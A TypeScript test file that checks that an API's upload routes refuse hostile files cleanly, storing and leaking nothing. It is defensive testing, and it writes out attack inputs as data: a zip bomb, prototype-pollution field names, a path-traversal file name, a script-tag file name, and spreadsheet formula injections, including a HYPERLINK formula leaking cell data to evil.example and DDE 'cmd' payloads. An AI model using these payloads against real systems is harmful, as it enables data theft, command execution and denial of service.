import { strToU8, zipSync } from "fflate";
import writeXlsxFile from "write-excel-file/node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { allOperations } from "@/lib/http/openapi";
import type { Operation } from "@/lib/http/operation";
import { api, type ApiResponse } from "@/lib/testing/api";
import { createSellableVersion, createTestClient, dateFromToday, signInAs, type SignedIn } from "@/lib/testing/fixtures";
import { changes, expectNoPollution, problemsOf, snapshot, tableNames } from "./hostile-checks";

// Issue 8 point 3, uploads: every multipart route (found through the operations' `multipart`, so a new
// upload is covered without touching this file) refuses truncated, oversized, mistyped and bomb-like
// bodies with a 4xx `{detail}`, stores nothing, leaks nothing and pollutes no prototype. What one route
// already proves in depth stays in its own tests: lib/emission/__tests__/bulk-upload.test.ts (zip bombs by
// declared size, ratio and lying sizes; truncated workbooks; non-workbook zips; formula cells read as
// their cached value; __proto__ headers in .csv and .xlsx; NUL cells; 413 three ways) and
// lib/knowledge/__tests__/upload.test.ts (PNG, text and truncated PDFs; PDF decompression bombs; 413).

let admin: SignedIn;
let tables: string[];
let bulkFields: Record<string, string>;

beforeAll(async () => {
  admin = await signInAs("ADMIN");
  const { version } = await createSellableVersion();
  const client = await createTestClient(admin);
  bulkFields = { client_id: client.id, plan_version_id: version.id, start_date: dateFromToday(1) };
  tables = await tableNames();
}, 120_000);

afterAll(() => {
  expectNoPollution();
});

/** What a route's form needs besides its file, and the file extension it takes; an unlisted route gets none. */
function formOf(operation: Operation): { fields: () => Record<string, string>; extension: string } {
  const known: Record<string, { fields: () => Record<string, string>; extension: string }> = {
    "/emission/bulk-upload": { fields: () => bulkFields, extension: "xlsx" },
    "/ai/knowledge/upload": { fields: () => ({}), extension: "pdf" },
  };
  return known[operation.path] ?? { fields: () => ({}), extension: "bin" };
}

function formWith(operation: Operation, file: { bytes: Uint8Array; name?: string } | null, extra: Record<string, string> = {}): FormData {
  const { fields, extension } = formOf(operation);
  const form = new FormData();
  if (file) form.append("file", new Blob([new Uint8Array(file.bytes)]), file.name ?? `upload.${extension}`);
  for (const [name, value] of Object.entries({ ...fields(), ...extra })) form.append(name, value);
  return form;
}

const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
const SMALL_TEXT = strToU8("first_name,last_name\nAna,Pérez\n");

let bomb: Uint8Array | undefined;

/** A zip of 64 MiB of zeros in about 64 KB, with the parts of a workbook, whatever the route expects (built once). */
function zipBomb(): Uint8Array {
  return (bomb ??= zipSync({
    "[Content_Types].xml": strToU8("<Types/>"),
    "xl/workbook.xml": strToU8("<workbook/>"),
    "xl/worksheets/sheet1.xml": new Uint8Array(64 * 1024 * 1024),
  }));
}

type Send = { body: FormData | Uint8Array | string; headers?: Record<string, string> };

// Each case: what is sent, and the statuses the contract allows for it (any 4xx when not given).
const CASES: Array<[string, (operation: Operation) => Promise<Send> | Send, number[]?]> = [
  [
    "a multipart body cut off halfway",
    async (operation) => {
      const encoded = new Response(formWith(operation, { bytes: SMALL_TEXT }));
      const bytes = new Uint8Array(await encoded.arrayBuffer());
      return { body: bytes.subarray(0, Math.floor(bytes.length / 2)), headers: { "content-type": encoded.headers.get("content-type")! } };
    },
  ],
  ["a multipart type without a boundary", () => ({ body: "--x\r\n\r\n--x--", headers: { "content-type": "multipart/form-data" } }), [422]],
  ["a JSON body", () => ({ body: JSON.stringify({ file: "x" }), headers: { "content-type": "application/json" } }), [422]],
  ["a form without a file", (operation) => ({ body: formWith(operation, null) }), [422]],
  ["an empty file", (operation) => ({ body: formWith(operation, { bytes: new Uint8Array(0) }) })],
  ["a file one byte over the limit", (operation) => ({ body: formWith(operation, { bytes: new Uint8Array(operation.multipart!.maxBytes + 1) }) }), [413]],
  [
    "a declared Content-Length far over the limit",
    () => ({ body: "--x--", headers: { "content-type": "multipart/form-data; boundary=x", "content-length": String(1024 * 1024 * 1024) } }),
    [413],
  ],
  ["PNG bytes under the route's file name", (operation) => ({ body: formWith(operation, { bytes: PNG }) })],
  ["a zip bomb under the route's file name", (operation) => ({ body: formWith(operation, { bytes: zipBomb() }) })],
  [
    "form fields named __proto__, constructor and prototype",
    (operation) => ({
      body: formWith(operation, { bytes: PNG }, { __proto__: '{"polluted":"yes"}', constructor: '{"prototype":{"polluted":"yes"}}', prototype: "polluted" }),
    }),
  ],
  ["a file name that climbs out of its folder", (operation) => ({ body: formWith(operation, { bytes: PNG, name: `../../../etc/passwd.${formOf(operation).extension}` }) })],
  ["a file name with HTML, NUL and 2,000 emoji", (operation) => ({ body: formWith(operation, { bytes: PNG, name: `<script>alert(1)</script>\u0000${"😀".repeat(2000)}.${formOf(operation).extension}` }) })],
];

const uploads = allOperations.filter((operation) => operation.multipart);

async function send(operation: Operation, request: Send): Promise<ApiResponse> {
  return api(operation.method, `/api/v1${operation.path}`, { token: admin.token, rawBody: request.body, headers: request.headers });
}

/** Sends and checks one request: a 4xx the contract allows, nothing stored, nothing leaked or polluted. */
async function expectRefusedCleanly(operation: Operation, request: Send, allowed?: number[]): Promise<ApiResponse> {
  const before = await snapshot(tables);
  const response = await send(operation, request);
  expect(problemsOf(response, allowed)).toEqual([]);
  expect(response.status, response.text.slice(0, 300)).toBeGreaterThanOrEqual(400);
  expect(response.status).toBeLessThan(500);
  expect(changes(before, await snapshot(tables), [])).toEqual([]);
  expectNoPollution();
  return response;
}

describe("hostile uploads", () => {
  it("finds the upload routes through the operations", () => {
    expect(uploads.map((operation) => operation.path).sort()).toEqual(expect.arrayContaining(["/ai/knowledge/upload", "/emission/bulk-upload"]));
  });

  describe.each(uploads.map((operation) => [`${operation.method} ${operation.path}`, operation] as const))("%s", (_, operation) => {
    it.each(CASES)("refuses %s cleanly", async (_, build, allowed) => {
      await expectRefusedCleanly(operation, await build(operation), allowed);
    });

    it("keeps memory in bounds on a zip bomb", async () => {
      const rssBefore = process.memoryUsage.rss();
      await expectRefusedCleanly(operation, { body: formWith(operation, { bytes: zipBomb() }) });
      expect(process.memoryUsage.rss() - rssBefore).toBeLessThan(256 * 1024 * 1024);
    });
  });
});

describe("spreadsheets with formulas or polluting headers (bulk upload)", () => {
  const bulk = () => uploads.find((operation) => operation.path === "/emission/bulk-upload")!;
  const COLUMNS = ["first_name", "last_name", "date_of_birth", "kinship_type", "country_of_residence"];

  async function xlsx(rows: string[][]): Promise<Uint8Array> {
    return new Uint8Array(await writeXlsxFile(rows).toBuffer());
  }

  it("refuses text cells that are formulas (=HYPERLINK, =cmd|, @SUM, +, -) in .xlsx and .csv, naming each cell", async () => {
    const formulas = [`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"];
    const rows = formulas.map((formula) => [formula, "Pérez", "1985-03-01", "CHILD", ""]);
    const fromXlsx = await expectRefusedCleanly(bulk(), { body: formWith(bulk(), { bytes: await xlsx([COLUMNS, ...rows]) }) }, [422]);
    expect(fromXlsx.body.errors.map((error: { row: number; column: string }) => `${error.row}:${error.column}`)).toEqual(["2:first_name", "3:first_name", "4:first_name", "5:first_name", "6:first_name"]);

    const csv = `${COLUMNS.join(",")}\n${rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(",")).join("\n")}\n`;
    const fromCsv = await expectRefusedCleanly(bulk(), { body: formWith(bulk(), { bytes: strToU8(csv), name: "beneficiaries.csv" }) }, [422]);
    expect(fromCsv.body.errors).toHaveLength(formulas.length);
  });

  /** A workbook written by hand with inline text cells (write-excel-file cannot write a __proto__ cell). */
  function handMadeXlsx(rows: string[][]): Uint8Array {
    const main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
    const escape = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
    const cell = (text: string, column: number, row: number) => `<c r="${String.fromCharCode(65 + column)}${row}" t="inlineStr"><is><t>${escape(text)}</t></is></c>`;
    const sheetRows = rows.map((cells, index) => `<row r="${index + 1}">${cells.map((text, column) => cell(text, column, index + 1)).join("")}</row>`).join("");
    return zipSync({
      "xl/workbook.xml": strToU8(`<workbook ${main} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
      "xl/_rels/workbook.xml.rels": strToU8(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
      ),
      "xl/worksheets/sheet1.xml": strToU8(`<worksheet ${main}><sheetData>${sheetRows}</sheetData></worksheet>`),
    });
  }

  it("refuses __proto__, constructor and prototype headers as unknown columns and pollutes nothing", async () => {
    // Within the template's five columns (a sixth is refused as outside the template, below).
    const header = ["__proto__", "constructor", "prototype", "first_name", "last_name"];
    const row = ['{"polluted":"yes"}', "polluted", "polluted", "Ana", "Pérez"];
    const response = await expectRefusedCleanly(bulk(), { body: formWith(bulk(), { bytes: handMadeXlsx([header, row]) }) }, [422]);
    expect(response.body.errors?.map((error: { column: string }) => error.column), response.text).toEqual(["__proto__", "constructor", "prototype", "date_of_birth", "kinship_type"]);
  });
});
